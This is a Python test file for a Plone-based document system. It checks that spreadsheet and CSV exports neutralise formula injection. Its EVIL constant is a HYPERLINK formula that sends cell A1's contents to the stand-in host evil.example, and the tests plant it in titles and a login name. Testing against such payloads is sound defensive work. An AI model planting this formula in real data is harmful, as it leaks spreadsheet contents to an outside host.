"""Formula injection (issue 18, item 6): text from users is never a live
formula in what hdnd exports — the section's .xlsx listing, the tracking
sheet, collective.excelexport's CSV, the audit trail's CSV (all through
hdnd.content.core.cells) — and the tracking sheet still reads back."""

from hdnd.content import imports
from hdnd.policy.testing import as_system
from plone import api

import csv
import io
import transaction


EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'


def xlsx_cells(data):
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_a_title_is_text_in_the_section_listing_and_the_tracking_sheet(functional_portal, request_factory):
    portal = functional_portal
    with as_system(portal):
        api.content.create(container=portal["van-ban"], type="OfficialDocument", id="vb-evil", title=EVIL,
                           direction="incoming")
        programme = api.content.create(container=portal["chuong-trinh-cong-tac"], type="WorkProgramme",
                                       id="ct-evil", title=EVIL, year=2026)
        api.content.create(container=programme, type="ProgrammeItem", title=EVIL, planned_month=3)
    transaction.commit()
    admin = request_factory(role="Manager", api=False)
    for path in ("/van-ban/@hdnd-export", "/chuong-trinh-cong-tac/ct-evil/@hdnd-export"):
        response = admin.get(path)
        assert response.status_code == 200, response.text[:300]
        found = [c for c in xlsx_cells(response.content) if c.value == EVIL]
        assert found, path
        assert all(c.data_type == "s" for c in found), [(c.coordinate, c.data_type) for c in found]
        assert not [c for c in xlsx_cells(response.content) if c.data_type == "f"], path
    # The tracking sheet, exported and imported again, changes nothing.
    data = admin.get("/chuong-trinh-cong-tac/ct-evil/@hdnd-export").content
    transaction.begin()
    with as_system(portal):
        result = imports.import_sheet(portal["chuong-trinh-cong-tac"]["ct-evil"], data, dry_run=True)
    assert result["errors"] == [] and result["unchanged"] == 1 and result["created"] == 0, result


def test_excelexport_csv_of_a_folder_is_neutralised(functional_portal, request_factory):
    portal = functional_portal
    with as_system(portal):
        api.content.create(container=portal["van-ban"], type="OfficialDocument", id="vb-evil2", title=EVIL,
                           direction="incoming")
    transaction.commit()
    admin = request_factory(role="Manager", api=False)
    response = admin.get("/van-ban/@@collective.excelexportcsv", headers={"Accept": "text/html"})
    assert response.status_code == 200, response.text[:300]
    text = response.content.decode("windows-1252", errors="replace")
    assert EVIL.split("?")[0][:20] in text.replace('""', '"')
    for row in csv.reader(io.StringIO(text), delimiter=";"):
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@"), cell


def test_a_login_name_is_text_in_the_audit_csv(functional_portal, request_factory):
    from hdnd.content.core import audit as chain

    api.user.create(email="bm@example.vn", username="bm-formula", password="baomat-secret-1")
    with as_system(functional_portal):  # as the office gives the role (the grant gate)
        api.user.grant_roles(username="bm-formula", roles=["SecurityOfficer"])
    transaction.commit()
    anonymous = request_factory(api=False)
    assert anonymous.post("/@login", json={"login": EVIL, "password": "x"}).status_code == 401
    officer = request_factory(basic_auth=("bm-formula", "baomat-secret-1"), api=False)
    response = officer.get("/@@hdnd-audit.csv")
    assert response.status_code == 200
    text = response.content.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    failed = [row for row in rows if row[3] == "login_failed"]
    assert failed and failed[-1][2] == "'" + EVIL, failed
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]
    # The file still verifies against its hashes.
    entries = chain.read_csv(io.StringIO(text))
    assert EVIL in [e.actor for e in entries]
    assert chain.verify(entries) == []
